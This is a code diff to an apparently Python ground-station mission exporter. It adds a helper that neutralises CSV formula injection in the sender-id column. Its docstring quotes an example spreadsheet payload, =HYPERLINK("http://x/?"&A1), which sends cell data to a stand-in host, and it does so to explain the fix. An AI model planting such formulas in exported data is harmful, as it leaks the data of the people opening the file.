@@ -22,6 +22,17 @@ from ground_station.storage import Storage, safe_name
 __all__ = ["ExportError", "ExportResult", "export_mission"]
 
 
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_text(value: str) -> str:
+    """A text cell a spreadsheet shows as text: a leading ``'`` before ``= + - @`` or a tab.
+    The sender id comes from the wire (any fleet-key holder picks it, printable, 32 bytes),
+    and ``=HYPERLINK("http://x/?"&A1)`` there was a formula wherever the operator opened
+    geotags.csv (OWASP "CSV injection"; docs/security.md, 2026-11-24)."""
+    return "'" + value if value.startswith(_FORMULA_START) else value
+
+
 class ExportError(Exception):
     """An export that cannot run; the text says why in one line."""
 
@@ -114,7 +125,7 @@ def export_mission(data_dir: Path, mission: str, out: Path, *,
                     row.yaw_deg,
                     row.pitch_deg,
                     row.roll_deg,
-                    row.sender,
+                    csv_text(row.sender),
                     row.seq,
                     row.t_gen,
                     row.t_rcv,
